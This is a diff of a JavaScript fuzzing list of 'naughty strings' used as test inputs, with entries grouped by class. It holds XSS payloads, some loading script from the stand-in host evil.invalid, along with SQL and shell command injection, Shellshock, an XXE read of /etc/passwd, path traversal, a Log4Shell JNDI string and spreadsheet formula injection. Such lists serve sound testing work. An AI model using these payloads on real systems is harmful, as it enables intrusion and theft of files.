@@ -111,93 +111,34 @@ const CLASSES = {
     '\uffa0',
     '⠀',
   ],
-  unicode: lines(`Ω≈ç√∫˜µ≤≥÷
-    åß∂ƒ©˙∆˚¬…æ
-    œ∑´®†¥¨ˆøπ“‘
-    ¡™£¢∞§¶•ªº–≠
-    ¸˛Ç◊ı˜Â¯˘¿
-    ÅÍÎÏ˝ÓÔÒÚÆ☃
-    Œ„´‰ˇÁ¨ˆØ∏”’
-    \`⁄€‹›ﬁﬂ‡°·‚—±
-    ⅛⅜⅝⅞
+  unicode: lines(`¡™£¢∞§¶•ªº–≠
     ЁЂЃЄЅІЇЈЉЊЋЌЍЎЏАБВГДЕЖЗИЙКЛМНОПРСТУФХЦЧШЩЪЫЬЭЮЯабвгдежзийклмнопрстуфхцчшщъыьэюя
-    ٠١٢٣٤٥٦٧٨٩
-    ⁰⁴⁵
-    ₀₁₂
     ⁰⁴⁵₀₁₂
-    ด้้้้้็็็็็้้้้้็็็็็้้้้้้้้็็็็็้้้้้็็็็็
     田中さんにあげて下さい
-    パーティーへ行かないか
-    和製漢語
-    部落格
     사회과학원 어학연구소
-    찦차를 타고 온 펲시맨과 쑛다리 똠방각하
-    社會科學院語學研究所
-    울란바토르
     𠜎𠜱𠝹𠱓𠱸𠲖𠳏
-    𐐜 𐐔𐐇𐐝𐐀𐐡𐐇𐐓 𐐙𐐊𐐡𐐝𐐓
     表ポあA鷗ŒéＢ逍Üßªąñ丂㐀𠀀
     Ⱥ
-    Ⱦ
-    ヽ༼ຈل͜ຈ༽ﾉ
-    (｡◕ ∀ ◕｡)
-    ｀ｨ(´∀｀∩
-    __ﾛ(,_,*)
-    ・(￣∀￣)・:*:
-    ,。・:*:・゜’( ☻ ω ☻ )。・:*:・゜’
-    (╯°□°）╯︵ ┻━┻)
-    (ﾉಥ益ಥ）ﾉ ┻━┻
-    ┬─┬ノ( º _ ºノ)
-    ( ͡° ͜ʖ ͡°)
     ¯\\_(ツ)_/¯
-    😍
-    👩🏽
     👨‍🦰 👨🏿‍🦰 👨‍🦱 👨🏿‍🦱 🦹🏿‍♂️
-    👾 🙇 💁 🙅 🙆 🙋 🙎 🙍
-    🐵 🙈 🙉 🙊
     ❤️ 💔 💌 💕 💞 💓 💗 💖 💘 💝 💟 💜 💛 💚 💙
-    ✋🏿 💪🏿 👐🏿 🙌🏿 👏🏿 🙏🏿
     👨‍👩‍👦 👨‍👩‍👧‍👦 👨‍👨‍👦 👩‍👩‍👧 👨‍👦 👨‍👧‍👦 👩‍👦 👩‍👧‍👦
-    🚾 🆒 🆓 🆕 🆖 🆗 🆙 🏧
-    0️⃣ 1️⃣ 2️⃣ 3️⃣ 4️⃣ 5️⃣ 6️⃣ 7️⃣ 8️⃣ 9️⃣ 🔟
-    🇺🇸🇷🇺🇸 🇦🇫🇦🇲🇸
-    🇺🇸🇷🇺🇸🇦🇫🇦🇲
     🏴󠁧󠁢󠁥󠁮󠁧󠁿
     １２３
-    ثم نفس سقطت وبالتحديد،, جزيرتي باستخدام أن دنو.
     בְּרֵאשִׁית, בָּרָא אֱלֹהִים, אֵת הַשָּׁמַיִם, וְאֵת הָאָרֶץ
     הָיְתָהtestالصفحات التّحول
     ﷽
-    ﷺ
     مُنَاقَشَةُ سُبُلِ اِسْتِخْدَامِ اللُّغَةِ
-    الكل في المجمو عة (5)
-    ᚛ᚄᚓᚐᚋᚒᚄ ᚑᚄᚂᚑᚏᚅ᚜
     Ṱ̺̺̕o͞ ̷i̲̬͇̪͙n̝̗͕v̟̜̘̦͟o̶̙̰̠kè͚̮̺̪̹̱̤
-    ̡͓̞ͅI̗̘̦͝n͇͇͙v̮̫ok̲̫̙͈i̖͙̭̹̠̞n̡̻̮̣̺g̲͈͙̭͙̬͎
-    ̗̺͖̹̯͓Ṯ̤͍̥͇͈h̲́e͏͓̼̗̙̼̣͔
-    Z̮̞̠͙͔ͅḀ̗̞͈̻̗Ḷ͙͎̯̹̞͓G̻O̭̗̮
-    ˙ɐnbᴉlɐ ɐuƃɐɯ ǝɹolop ʇǝ ǝɹoqɐl
-    00˙Ɩ$-
     Ｔｈｅ ｑｕｉｃｋ ｂｒｏｗｎ ｆｏｘ
     𝐓𝐡𝐞 𝐪𝐮𝐢𝐜𝐤 𝐛𝐫𝐨𝐰𝐧 𝐟𝐨𝐱
-    𝕿𝖍𝖊 𝖖𝖚𝖎𝖈𝖐 𝖇𝖗𝖔𝖜𝖓
-    𝑻𝒉𝒆 𝒒𝒖𝒊𝒄𝒌
-    𝓣𝓱𝓮 𝓺𝓾𝓲𝓬𝓴
-    𝕋𝕙𝕖 𝕢𝕦𝕚𝕔𝕜
-    𝚃𝚑𝚎 𝚚𝚞𝚒𝚌𝚔
-    ⒯⒣⒠ ⒬⒰⒤⒞⒦
-    K
     İstanbul ıi
     ß ẞ ſ
     ǅ ﬃ
-    ᾳ ᾼ
     é é
     Å Å Å
     가 가
-    ꙮ
-    ﯹ ﷲ
     ‮
-    గ్న
     జ్ఞ‌ా`),
   bidi: [
     '\u202Etest\u202E',
@@ -225,65 +166,29 @@ const CLASSES = {
       EVENTS,
     ),
     ...lines(`<script>alert(1)</script>
-    &lt;script&gt;alert(1);&lt;/script&gt;
-    <img src=x onerror=alert(1) />
-    <svg><script>123<1>alert(1)</script>
     "><script>alert(1)</script>
-    '><script>alert(1)</script>
-    ><script>alert(1)</script>
     </script><script>alert(1)</script>
-    < / script >< script >alert(1)< / script >
     onfocus=JaVaSCript:alert(1) autofocus
-    " onfocus=JaVaSCript:alert(1) autofocus
-    ' onfocus=JaVaSCript:alert(1) autofocus
     ＜script＞alert(1)＜/script＞
-    <sc<script>ript>alert(1)</sc</script>ript>
     --><script>alert(1)</script>
-    ";alert(1);t="
     ';alert(1);t='
     JavaSCript:alert(1)
-    ;alert(1);
-    src=JaVaSCript:prompt(1)
-    "><script>alert(1);</script x="
-    '><script>alert(1);</script x='
-    " autofocus onkeyup="javascript:alert(1)
     <script\\x20type="text/javascript">javascript:alert(1);</script>
-    '\`"><\\x3Cscript>javascript:alert(1)</script>
-    ABC<div style="x\\x3Aexpression(javascript:alert(1)">DEF
-    <a href="\\x0Bjavascript:javascript:alert(1)" id="fuzzelement1">test</a>
     <a href="javas&#9;cript:alert(1)">x</a>
     <a href="&#106;avascript:alert(1)">x</a>
-    \`"'><img src=xxx:x \\x0Aonerror=javascript:alert(1)>
-    "\`'><script>\\x3Bjavascript:alert(1)</script>
-    <img src="javascript:alert(1)">
-    <IMG """><SCRIPT>alert(1)</SCRIPT>">
-    <IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>
-    <IMG SRC=# onmouseover="alert(1)">
     <IMG SRC=&#0000106&#0000097&#0000118&#0000097>
-    perl -e 'print "<IMG SRC=java\\0script:alert(1)>";' > out
     <SCRIPT/XSS SRC="https://evil.invalid/xss.js"></SCRIPT>
-    <BODY onload!#$%&()*~+-_.,:;?@[/|\\]^\`=alert(1)>
-    <<SCRIPT>alert(1);//<</SCRIPT>
-    <SCRIPT SRC=https://evil.invalid/xss.js?< B >
     <SCRIPT SRC=//evil.invalid/.j>
-    <IMG SRC="javascript:alert(1)"
-    <iframe src=https://evil.invalid/scriptlet.html <
-    \\";alert(1);//
-    <u oncopy=alert()> Copy me</u>
-    <i onwheel=alert(1)> Scroll over me </i>
     <plaintext>
     http://a/%%30%30
     </textarea><script>alert(1)</script>
     </title><script>alert(1)</script>
-    </pre><script>alert(1)</script>
     </bdi></h3><script>alert(1)</script>
     <base href=https://evil.invalid/>
     <meta http-equiv=refresh content="0;url=https://evil.invalid/">
     <link rel=stylesheet href=https://evil.invalid/x.css>
     <style>@import url(https://evil.invalid/x.css);</style>
     <object data=https://evil.invalid/></object>
-    <embed src=https://evil.invalid/>
-    <form action=https://evil.invalid/><button>go
     <math><a xlink:href=javascript:alert(1)>x</a></math>
     <details open ontoggle=alert(1)>
     <template><script>alert(1)</script></template>
@@ -291,96 +196,44 @@ const CLASSES = {
     <![CDATA[<script>alert(1)</script>]]>
     <?xml version="1.0"?><script>alert(1)</script>
     <!DOCTYPE x [<!ENTITY y "z">]>
-    &quot;&gt;&lt;img src=x onerror=alert(1)&gt;
-    &#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;
     {{constructor.constructor('alert(1)')()}}
     data:text/html,<script>alert(1)</script>
-    javascript:alert(1)
-    vbscript:msgbox(1)`),
+    javascript:alert(1)`),
   ],
   injection: lines(`1;DROP TABLE users
     1'; DROP TABLE users-- 1
-    ' OR 1=1 -- 1
     ' OR '1'='1
-    '; EXEC sp_MSForEachTable 'DROP TABLE ?'; --
     $ne
-    [$ne]
-    - --version
     --help
     $USER
     /dev/null; touch /tmp/naughty.fail ; echo
     \`touch /tmp/naughty.fail\`
     $(touch /tmp/naughty.fail)
-    @{[system "touch /tmp/naughty.fail"]}
-    eval("puts 'hello world'")
-    System("ls -al /")
-    \`ls -al /\`
-    Kernel.exec("ls -al /")
-    Kernel.exit(1)
-    %x('ls -al /')
     <?xml version="1.0" encoding="ISO-8859-1"?><!DOCTYPE foo [ <!ELEMENT foo ANY ><!ENTITY xxe SYSTEM "file:///etc/passwd" >]><foo>&xxe;</foo>
-    $HOME
-    $ENV{'HOME'}
-    %d
     %s%s%s%s%s
-    {0}
     %*.*s
-    %@
-    %n
-    File:///
     ../../../../../../../../../../../etc/passwd%00
-    ../../../../../../../../../../../etc/hosts
     ..\\..\\windows\\win.ini
     ..%2f..%2fetc%2fpasswd
     ..%c0%af..%c0%afetc
     /etc/passwd
-    C:\\windows\\system32
     \\\\server\\share
-    file:///etc/passwd
     //evil.invalid
-    https://evil.invalid
-    http://evil@host
     https://user:pass@host/
     () { 0; }; touch /tmp/naughty.fail;
-    () { _; } >_[$($())] { touch /tmp/naughty.fail; }
-    <<< %s(un='%s') = %u
-    +++ATH0
     =cmd|' /C calc'!A0
     =1+1
-    +1+1
-    @SUM(1)
     \${jndi:ldap://evil.invalid/a}
-    DCC SEND STARTKEYLOGGER 0 0 0
     Powerلُلُصّبُلُلصّبُررً ॣ ॣh ॣ ॣ冗
     ::error file=x::y
     ::set-output name=x::y
-    ##[command]x
-    If you're reading this, you've been in a coma for almost 20 years now.`),
+    ##[command]x`),
   devices: words(
     'CON PRN AUX CLOCK$ NUL A: ZZ: COM1 LPT1 LPT2 LPT3 COM2 COM3 COM4 con.txt nul.yaml aux.svg .DS_Store Thumbs.db desktop.ini .git .. . ~root -rf .htaccess web.config index browse options manifest.json theme.yaml site.yaml users.csv',
   ),
   innocent: lines(`Scunthorpe General Hospital
-    Penistone Community Church
-    Lightwater Country Park
-    Jimmy Clitheroe
-    Horniman Museum
-    shitake mushrooms
-    RomansInSussex.co.uk
-    http://www.cum.qc.ca/
-    Craig Cockburn, Software Specialist
-    Linda Callahan
-    Dr. Herman I. Libshitz
-    magna cum laude
     Super Bowl XXX
-    medieval erection of parapets
-    evaluate
-    mocha
     expression
-    Arsenal canal
-    classic
-    Tyson Gay
-    Dick Van Dyke
-    basement
     O'Brien
     Müller & Söhne
     Jean-Luc d'Été
@@ -422,31 +275,17 @@ const CLASSES = {
     <If "true">
     # comment
     x # comment
-    %[env(PATH)]
-    %[src]
     'x' y
     "$PATH"
     ","
-    x),lower
     x\\ y
     {$PATH}
     {env.PATH}
     {http.request.uri}
     {file./etc/passwd}
     {%PATH%}
-    x") { return(synth(200)); } if ("1
-    "} + {"
-    """
-    """"
     x"
-    {"x"}
-    "}"
-    {json"x"json}
-    "json}
     %22
-    %u{22}
-    x"} return (error); {"
-    C{ #include <stdio.h> }C
     :splat
     :name
     /* 200
